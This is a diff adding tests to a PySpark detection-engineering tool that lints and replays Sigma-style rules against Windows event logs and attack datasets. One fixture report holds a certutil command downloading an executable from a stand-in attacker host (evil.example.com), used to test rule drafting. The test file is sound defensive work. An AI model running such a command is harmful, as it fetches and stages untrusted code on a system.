@@ -8,7 +8,9 @@ import pytest
 from pyspark.sql import functions as F
 
 from sparkwatch.cli import main
-from sparkwatch.sources import logs
+from sparkwatch.operators import gate, reports
+from sparkwatch.sources import captures, logs
+from sparkwatch.sources.rules import load_rule_dir, load_rules, skipped
 
 EVTX = {"Event": {"System": {"Provider": {"#attributes": {"Name": "P"}}, "EventID": {"#text": 1}, "Channel": "Security", "Computer": "h", "TimeCreated": {"#attributes": {"SystemTime": "t"}}}, "EventData": {"Image": "a.exe", "#attributes": {"x": 1}}}}
 USER = {"Event": {"System": {"EventID": 7, "Channel": "C"}, "UserData": {"One": {"Param": "v"}}}}
@@ -76,6 +78,8 @@ def test_empty_input(spark, tmp_path):
 RULE = """title: t
 id: 6f1c2a0e-3b4d-4c1a-9e7f-0a1b2c3d4e01
 description: a rule that looks for one program, for the tests
+level: low
+status: test
 logsource: {product: windows, category: process_creation}
 detection: {s: {Image|endswith: whoami.exe}, condition: s}
 tags: [attack.t1033]
@@ -98,3 +102,78 @@ def test_commands(spark, tmp_path):
     assert run("test", rules, events) == 1  # one of two events is a false positive
     assert run("coverage", rules) == 0 and run("score", rules) == 0 and run("features", rules) == 0 and run("convert", rules, events) == 0
     assert run("decay", rules, events) == 0 and run("ingest", events, str(tmp_path / "lake")) == 0 and run("synth", str(tmp_path / "synth")) == 0
+    # several folders, single files, inputs that aren't there
+    assert run("lint", rules, str(tmp_path / "rules" / "a.yml")) == 0 and run("lint", str(tmp_path / "rules" / "a.yml")) == 0
+    assert run("lint", str(tmp_path / "nowhere")) == 2 and run("scan", rules, str(tmp_path / "nowhere")) == 2
+    baseline = str(tmp_path / "baseline.json")
+    assert run("test", rules, events, "--save-baseline", baseline) == 1 and run("test", rules, events, "--baseline", baseline) == 0
+    report = tmp_path / "report.md"
+    report.write_text("They ran\nC:\\Users\\x> certutil.exe -urlcache -f http://evil.example.com/a.exe out.exe\n")
+    assert run("draft", str(report), "--technique", "T1105") == 0 and run("draft", str(report), "--keywords") == 0
+    report.write_text("Nothing was run.")
+    assert run("draft", str(report)) == 1
+
+
+def test_rule_files(tmp_path):
+    (tmp_path / "a.yml").write_text(RULE + "---\naction: global\n")
+    (tmp_path / "b.yaml").write_text("title: [")
+    rules, errors = load_rule_dir(str(tmp_path), str(tmp_path / "a.yml"), str(tmp_path / "nowhere"))
+    assert len(rules) == 1 and set(errors) == {str(tmp_path / "b.yaml"), str(tmp_path / "nowhere")} and skipped(str(tmp_path)) == 1
+    bare = load_rules("title: x\ndetection: {s: {a: 1}, condition: s}\n")[0]
+    assert bare.level == bare.status == "" and bare.tactics == []
+
+
+def test_captures(spark, tmp_path):
+    """Regression cases replayed, emulated attacks with their logs, folders of logs, and descriptions that name files."""
+    data = tmp_path / "regression_data" / "rules" / "x"
+    data.mkdir(parents=True)
+    (data / "info.yml").write_text("rule_metadata: [{id: 6f1c2a0e-3b4d-4c1a-9e7f-0a1b2c3d4e01, title: t}]\nregression_tests_info:\n- {type: evtx, path: a/one.evtx, match_count: 1}\n- {type: json, path: two.json}\n- {type: evtx, path: gone.evtx, match_count: 1}\n- {type: pcap, path: x}\n")
+    (tmp_path / "regression_data" / "info.yml").write_text("a: [")
+    event = lambda image: json.dumps({"Channel": "Security", "EventID": 4688, "NewProcessName": image})
+    (data / "one.json").write_text(event("C:\\whoami.exe") + event("C:\\x.exe"))
+    (data / "two.json").write_text(event("C:\\x.exe"))
+    cases = captures.regression_cases(spark, str(tmp_path))
+    assert [(r.file.rsplit("/", 1)[-1], r.expected) for r in cases.orderBy("file").collect()] == [("gone.json", 1), ("one.json", 1), ("two.json", None)]
+    rules = load_rules(RULE)
+    found = logs.read_json_files(spark, [str(data / "one.json"), str(data / "two.json")]).withColumn("file", F.regexp_replace("file", "^file:/*", "/"))
+    got = {r.file.rsplit("/", 1)[-1]: (r.status, r.events, r.routed, r.matched) for r in gate.replay_captures(cases, rules, found).collect()}
+    assert got == {"one.json": ("pass", 2, 2, 1), "two.json": ("fail", 1, 1, 0), "gone.json": ("unreadable", None, 0, 0)}
+    (tmp_path / "r.yml").write_text(RULE)
+    assert main(["regress", str(tmp_path / "r.yml"), str(tmp_path)], spark) == 1
+
+    meta = tmp_path / "atomic" / "_metadata"
+    meta.mkdir(parents=True)
+    (meta / "SDWIN-1.yaml").write_text("id: SDWIN-1\ntitle: one\nattack_mappings: [{technique: T1059, sub-technique: 1}, {technique: T1105, sub-technique: null}, {technique: ''}]\nfiles: [{type: Host, link: 'https://x/datasets/atomic/h.zip'}, {type: Network, link: 'https://x/datasets/atomic/n.zip'}]\nsimulation: {adversary_view: whoami}\n")
+    (meta / "SDWIN-2.yaml").write_text("id: SDWIN-2\nfiles: []\n")
+    with zipfile.ZipFile(tmp_path / "atomic" / "h.zip", "w") as z:
+        z.writestr("h.json", event("a") + "\n" + event("b"))
+    sets = captures.attack_datasets(spark, str(tmp_path))
+    assert [(r.id, r.techniques, len(r.host_files), r.adversary_view) for r in sets.collect()] == [("SDWIN-1", ["T1059.001", "T1105"], 1, "whoami")]
+    assert captures.dataset_events(spark, sets).groupBy("id").count().collect() == [("SDWIN-1", 2)]
+    (tmp_path / "atomic" / "h.zip").write_bytes(b"PK broken")
+    assert captures.dataset_events(spark, sets).count() == 0
+
+    logs_dir = tmp_path / "attack" / "T1003" / "a"
+    logs_dir.mkdir(parents=True)
+    for name in ("x.log", "y.json", "z.part"):
+        (logs_dir / name).write_text("")
+    (row,) = captures.capture_folders(spark, str(tmp_path / "attack"), "lab:").collect()
+    assert (row.id, row.techniques, len(row.host_files)) == ("lab:T1003/a", ["T1003"], 2)
+    (tmp_path / "window.txt").write_text("techniques = T1003,T1059\nnoise\nstart=1\n")
+    assert captures.recording(str(tmp_path / "window.txt")) == {"techniques": "T1003,T1059", "start": "1"} and captures.recording("/nowhere") == {}
+    files, texts = spark.createDataFrame([("h.zip",), ("other.zip",)], "name string"), spark.createDataFrame([("SDLIN-1", "T1003.001 and T1059 in h.zip, not xh.zip"), ("SDLIN-2", None)], "key string, text string")
+    assert [tuple(r) for r in captures.named_in(files, texts).collect()] == [("h.zip", "SDLIN-1", ["T1003.001", "T1059"])]
+
+
+def test_known_false_positives_and_results(spark, tmp_path):
+    (tmp_path / "known.csv").write_text("RuleId;RuleName;MatchString\na;x;foo.*\na;x\nb;y;bar\n")
+    assert {r.rule_id: r.patterns for r in reports.known_false_positives(spark, str(tmp_path / "known.csv")).collect()} == {"a": [".*", "foo.*"], "b": ["bar"]}
+    table = spark.createDataFrame([("a", 1)], "rule_id string, hits int")
+    out = reports.results({"hits": table}, str(tmp_path / "r.json"), {"hits": table})
+    assert out["hits"] == [{"rule_id": "a", "hits": 1}] and json.loads((tmp_path / "r.json").read_text())["provenance"]["rows"] == {"hits": 1}
+    with pytest.raises(ValueError, match="no report"):
+        reports.results({"hits": table}, str(tmp_path / "r.json"), most=0)
+    texts = tmp_path / "repo" / "rules" / "win"
+    texts.mkdir(parents=True)
+    (texts / "a.yml").write_text("detection:\n  condition: x | count() > 1\n")
+    assert reports.aggregation_census(reports.rule_texts(spark, str(tmp_path / "repo"), ["rules"])).first()[1:] == (1, 1, 1, 0)
